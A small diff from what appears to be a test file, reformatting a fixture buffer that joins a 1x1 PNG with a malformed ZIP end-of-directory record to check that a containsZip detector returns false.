-    const noise = Buffer.concat([PNG_1X1, Buffer.from('PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x10\x00\x00\x00\x99\x99\x00\x00\x00\x00', 'latin1'), Buffer.alloc(10)]);
+    const noise = Buffer.concat([
+      PNG_1X1,
+      Buffer.from('PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x10\x00\x00\x00\x99\x99\x00\x00\x00\x00', 'latin1'),
+      Buffer.alloc(10),
+    ]);
     expect(containsZip(noise)).toBe(false);
   });
 });
